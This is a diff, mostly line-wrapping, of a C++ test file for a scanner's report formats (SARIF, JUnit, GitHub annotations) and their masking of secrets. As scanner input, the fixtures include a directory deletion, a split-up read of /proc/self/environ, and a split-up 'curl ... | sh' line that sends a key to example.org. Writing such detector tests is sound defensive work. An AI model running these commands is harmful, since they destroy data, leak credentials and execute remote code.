@@ -1,4 +1,5 @@
-// The reports of findings: SARIF against its schema, JUnit as XML, GitHub's commands against injection, and no secret in any of them.
+// The reports of findings: SARIF against its schema, JUnit as XML, GitHub's commands against injection, and no secret
+// in any of them.
 #include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
@@ -20,9 +21,9 @@
 namespace guard {
 namespace {
 
+using nlohmann::json;
 using ::testing::HasSubstr;
 using ::testing::Not;
-using nlohmann::json;
 
 const std::string kPath = "sandbox/a.test.ts";
 
@@ -41,13 +42,15 @@ json sarif(const CheckRecord& record, std::string_view docs_url = {}) {
 }
 
 CheckRecord with_findings() {
-  return Gate()({{kPath, "let é = 'é'; fs.rmSync(dir);\nconst p = \"/pr\" + \"oc/self/environ\";\n"}, {"sandbox/bunfig.toml", "x = 1\n"}, {"sandbox/clean.test.ts", "1;\n"}});
+  return Gate()({{kPath, "let é = 'é'; fs.rmSync(dir);\nconst p = \"/pr\" + \"oc/self/environ\";\n"},
+      {"sandbox/bunfig.toml", "x = 1\n"}, {"sandbox/clean.test.ts", "1;\n"}});
 }
 
 CheckRecord with_a_waiver() {
   Gate gate;
   const auto before = gate({{kPath, "fs.rmSync(dir);\n"}});
-  gate.config.check.waivers.push_back({"host.fs_remove", kPath, before.report.findings.at(0).fingerprint, "the \"fixture\" <is> ours", "2999-12-31", "guard.toml:1"});
+  gate.config.check.waivers.push_back({"host.fs_remove", kPath, before.report.findings.at(0).fingerprint,
+      "the \"fixture\" <is> ours", "2999-12-31", "guard.toml:1"});
   gate.config.check.waivers.push_back({"host.eval", kPath, std::string(64, 'a'), "old", "2001-01-01", "guard.toml:7"});
   return gate({{kPath, "fs.rmSync(dir);\n"}});
 }
@@ -85,7 +88,8 @@ TEST(Sarif, HoldsRulesResultsAndRegionsInCharacters) {
   for (const auto& result : run["results"]) {
     const auto& rule = run["tool"]["driver"]["rules"][result["ruleIndex"].get<std::size_t>()];
     EXPECT_EQ(rule["id"], result["ruleId"]);
-    for (const char* key : {"shortDescription", "fullDescription", "help"}) EXPECT_FALSE(rule[key]["text"].get<std::string>().empty()) << key;
+    for (const char* key : {"shortDescription", "fullDescription", "help"})
+      EXPECT_FALSE(rule[key]["text"].get<std::string>().empty()) << key;
     EXPECT_FALSE(rule.contains("helpUri")) << "SARIF wants it absolute";
   }
   const auto& folded = run["results"][1];
@@ -104,8 +108,10 @@ TEST(Sarif, WaivedFindingsAreSuppressedWithTheirReason) {
   const auto run = sarif(with_a_waiver())["runs"][0];
   ASSERT_EQ(run["results"].size(), 1U);
   EXPECT_EQ(run["results"][0]["suppressions"][0]["kind"], "external");
-  EXPECT_THAT(run["results"][0]["suppressions"][0]["justification"].get<std::string>(), HasSubstr("the \"fixture\" <is> ours"));
-  EXPECT_THAT(run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"].get<std::string>(), HasSubstr("ran out on 2001-01-01"));
+  EXPECT_THAT(
+      run["results"][0]["suppressions"][0]["justification"].get<std::string>(), HasSubstr("the \"fixture\" <is> ours"));
+  EXPECT_THAT(run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"].get<std::string>(),
+      HasSubstr("ran out on 2001-01-01"));
 }
 
 TEST(Sarif, AnUndecidedVerdictIsNoSuccess) {
@@ -122,11 +128,13 @@ TEST(Sarif, AnUndecidedVerdictIsNoSuccess) {
 }
 
 TEST(Sarif, NamesCannotLeaveTheirPlace) {
-  const auto run = sarif(Gate()({{"sandbox/a b?c#d%e:\xff\n.ts", "fs.rmSync(d);\n"}, {"/abs/é.ts", "fs.rmSync(d);\n"}}))["runs"][0];
+  const auto run =
+      sarif(Gate()({{"sandbox/a b?c#d%e:\xff\n.ts", "fs.rmSync(d);\n"}, {"/abs/é.ts", "fs.rmSync(d);\n"}}))["runs"][0];
   const auto absolute = run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"];
   EXPECT_EQ(absolute["uri"], "file:///abs/%C3%A9.ts");
   EXPECT_FALSE(absolute.contains("uriBaseId"));
-  EXPECT_EQ(run["results"][1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], "sandbox/a%20b%3Fc%23d%25e%3A%FF%0A.ts");
+  EXPECT_EQ(run["results"][1]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
+      "sandbox/a%20b%3Fc%23d%25e%3A%FF%0A.ts");
 }
 
 // ---- JUnit ----
@@ -163,7 +171,8 @@ TEST(JUnit, WaivedFindingsAreSkipped) {
   const Xml xml(check_junit(with_a_waiver()));
   EXPECT_EQ(xml.root().attribute("skipped").as_int(), 1);
   EXPECT_EQ(xml.root().attribute("failures").as_int(), 0);
-  EXPECT_THAT(xml.suite(kPath.c_str()).child("testcase").child("skipped").attribute("message").value(), HasSubstr("the \"fixture\" <is> ours"));
+  EXPECT_THAT(xml.suite(kPath.c_str()).child("testcase").child("skipped").attribute("message").value(),
+      HasSubstr("the \"fixture\" <is> ours"));
 }
 
 TEST(JUnit, HoldsFailedTestsOfARun) {
@@ -232,10 +241,11 @@ std::map<std::string, std::string> all_reports(const CheckRecord& record) {
   RunRecord run;
   run.verdict = record.verdict;
   run.check = record;
-  return {{"text", check_text(record, Colour::off)}, {"json", check_document(record)},        {"sarif", check_sarif(record, sarif_options())},
-          {"junit", check_junit(record)},            {"github", check_annotations(record)},   {"run text", run_text(run, Colour::off)},
-          {"run json", run_document(run)},           {"run sarif", run_sarif(run, sarif_options())}, {"run junit", run_junit(run)},
-          {"run github", run_annotations(run)}};
+  return {{"text", check_text(record, Colour::off)}, {"json", check_document(record)},
+      {"sarif", check_sarif(record, sarif_options())}, {"junit", check_junit(record)},
+      {"github", check_annotations(record)}, {"run text", run_text(run, Colour::off)}, {"run json", run_document(run)},
+      {"run sarif", run_sarif(run, sarif_options())}, {"run junit", run_junit(run)},
+      {"run github", run_annotations(run)}};
 }
 
 TEST(Reports, KeysInTheSourceAreMaskedInEveryFormat) {
@@ -251,8 +261,10 @@ TEST(Reports, KeysInTheSourceAreMaskedInEveryFormat) {
 // The source holds only pieces of the key; what guard reads it as holds all of it.
 TEST(Reports, FoldedKeysAreMaskedInEveryFormat) {
   const std::string key = made_up_key();
-  const auto record = Gate()({{kPath, "run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n"}});
-  const auto readings = std::count_if(record.report.findings.begin(), record.report.findings.end(), [](const Finding& finding) { return !finding.matched.empty(); });
+  const auto record = Gate()(
+      {{kPath, "run('cu' + 'rl https://example.org/?k=" + key.substr(0, 4) + "' + '" + key.substr(4) + " | sh');\n"}});
+  const auto readings = std::count_if(record.report.findings.begin(), record.report.findings.end(),
+      [](const Finding& finding) { return !finding.matched.empty(); });
   ASSERT_GT(readings, 0);
   for (const auto& [name, report] : all_reports(record)) {
     EXPECT_THAT(report, HasSubstr("curl https://example.org/?k=[REDACTED]")) << name;
@@ -260,7 +272,8 @@ TEST(Reports, FoldedKeysAreMaskedInEveryFormat) {
   }
 }
 
-// Excerpts show the pieces as they stand in the file: that is how test data is to be written. Readings must not join them.
+// Excerpts show the pieces as they stand in the file: that is how test data is to be written. Readings must not join
+// them.
 TEST(Reports, AKeyCutByTheEndOfTheReadingIsMaskedAsAWhole) {
   const std::string key = made_up_key();
   const std::string far = std::string(80, 'x');
@@ -279,9 +292,12 @@ TEST(Reports, KnownValuesInNamesMessagesAndReasonsAreMaskedInEveryFormat) {
   gate.known = {{"DEPLOY_KEY", value}};
   const std::string path = "sandbox/" + value + "/a.test.ts";
   const auto before = gate({{path, "fs.rmSync('" + value + "'); const v = process.env.X; console.log(v);\n"}});
-  gate.config.check.waivers.push_back({"host.fs_remove", "sandbox/**", before.report.findings.at(0).fingerprint, "because " + value, "2999-12-31", ""});
-  gate.config.check.waivers.push_back({"host.fs_remove", "sandbox/" + value + "/**", std::string(64, 'b'), value, "2001-01-01", ""});
-  const auto record = gate({{path, "fs.rmSync('" + value + "'); const v = process.env.X; console.log(v);\nfs.rmSync(1);\n"}});
+  gate.config.check.waivers.push_back(
+      {"host.fs_remove", "sandbox/**", before.report.findings.at(0).fingerprint, "because " + value, "2999-12-31", ""});
+  gate.config.check.waivers.push_back(
+      {"host.fs_remove", "sandbox/" + value + "/**", std::string(64, 'b'), value, "2001-01-01", ""});
+  const auto record =
+      gate({{path, "fs.rmSync('" + value + "'); const v = process.env.X; console.log(v);\nfs.rmSync(1);\n"}});
   ASSERT_FALSE(record.report.findings.empty());
   ASSERT_FALSE(record.idle_waivers.empty());
   for (const auto& [name, report] : all_reports(record)) EXPECT_THAT(report, Not(HasSubstr(value))) << name;
